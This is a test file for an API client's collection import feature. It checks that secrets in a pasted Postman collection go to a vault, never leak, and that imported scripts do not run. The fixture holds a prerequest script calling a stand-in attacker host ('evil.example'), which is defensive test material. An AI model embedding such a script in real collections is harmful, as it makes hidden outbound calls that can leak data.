import { screen, waitFor, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { Route, Routes } from 'react-router';
import { afterEach, expect, test } from 'vitest';
import { setUpPages } from '#queries/pages.test-support.tsx';
import { hold } from './held.ts';
import { ImportPage } from './import-page.tsx';
import { ReviewPage } from './review-page.tsx';

const openPages = setUpPages();
afterEach(() => hold(null));

const token = 'pasted-token-0123456789';
const key = 'stripe-key-0123456789';

/** A collection of Postman's with a script, a token in the clear, and something that is not carried over. */
const payments = JSON.stringify({
  info: { name: 'Payments API', schema: 'https://schema.getpostman.com/json/collection/v2.1.0/collection.json' },
  variable: [{ key: 'stripe_key', value: key, type: 'secret' }],
  item: [
    {
      name: 'List orders',
      event: [{ listen: 'prerequest', script: { exec: ['pm.sendRequest("https://evil.example")'] } }],
      request: {
        method: 'GET',
        url: 'https://api.payments.example/orders',
        auth: { type: 'bearer', bearer: [{ key: 'token', value: token, type: 'string' }] },
      },
    },
    { name: 'Signed', request: { method: 'GET', url: 'https://api.payments.example/s', auth: { type: 'hawk' } } },
  ],
});

async function openImport() {
  const pages = await openPages();
  const before = await pages.dump();
  hold({ kind: 'file', file: new File([payments], 'payments.json') });
  const page = (
    <Routes>
      <Route path="/s" element={<ReviewPage />} />
      <Route path="/requests/import/:importId" element={<ImportPage />} />
    </Routes>
  );
  const shown = pages.show(page, { path: '*', at: '/s' });
  await screen.findByRole('heading', { name: 'Review “Payments API”' });
  return { ...pages, ...shown, before, vault: pages.browser.services.vault };
}

test('R25: somebody else’s file is reviewed, its secrets go to the vault, and what is not the same is listed', async () => {
  const { place, vault, before, dump, leaksIn, browser } = await openImport();
  const found = () =>
    within(screen.getByRole('list', { name: 'Secrets found in plain text' })).getAllByRole('listitem');
  expect(found()).toHaveLength(2);
  expect(screen.getByRole('columnheader', { name: 'Path in the file' })).toBeTruthy();
  expect(screen.queryByLabelText('stripe_key')).toBeNull();
  expect(leaksIn(document.documentElement.outerHTML, [token, key])).toEqual([]);
  expect(await dump()).toBe(before);
  await userEvent.click(screen.getByRole('button', { name: /^Add 2 requests/ }));

  await screen.findByRole('heading', { name: '“Payments API” is here' });
  expect(place.address).toMatch(/^\/requests\/import\/[\w-]+$/);
  expect(found().map((each) => each.textContent)).toEqual(
    expect.arrayContaining([expect.stringMatching(/stripe_key.*6789$/)]),
  );
  const table = within(screen.getByRole('table'));
  expect(table.getByText('Kept, but never runs')).toBeTruthy();
  expect(table.getByText('Not carried over')).toBeTruthy();
  await userEvent.click(screen.getByRole('radio', { name: /^Dropped/ }));
  expect(table.queryByText('Kept, but never runs')).toBeNull();
  expect(screen.getByRole('link', { name: /^Open: Set auth for .*Signed/ })).toBeTruthy();
  expect(leaksIn(await dump(), [token, key])).toEqual([]);
  expect(leaksIn(document.documentElement.outerHTML, [token, key])).toEqual([]);
  expect(browser.network.sent).toEqual([]);

  const [collection] = (await vault.loadCollections()).records.filter(({ name }) => name === 'Payments API');
  const secret = collection?.variables.find(({ name }) => name === 'stripe_key')?.value;
  expect(secret).toMatchObject({ kind: 'secret', origins: [], secret: { lastFour: '6789' } });
});

test('Undo import takes everything back', async () => {
  const { vault, place } = await openImport();
  await userEvent.click(screen.getByRole('button', { name: /^Add 2 requests/ }));
  await screen.findByRole('heading', { name: '“Payments API” is here' });
  await userEvent.click(screen.getByRole('button', { name: /^Undo import/ }));
  await waitFor(() => expect(place.address).toBe('/requests'));
  expect((await vault.loadCollections()).records.map(({ name }) => name)).not.toContain('Payments API');
});

test('a report that is gone says so, and leads to what was imported', async () => {
  const { show } = await openPages();
  show(<ImportPage />, { path: '/requests/import/:importId', at: '/requests/import/orders' });
  expect(screen.getByText('The report of this import is gone.')).toBeTruthy();
  expect(screen.getByRole('link', { name: 'Open collection' }).getAttribute('href')).toBe('/requests/orders');
});
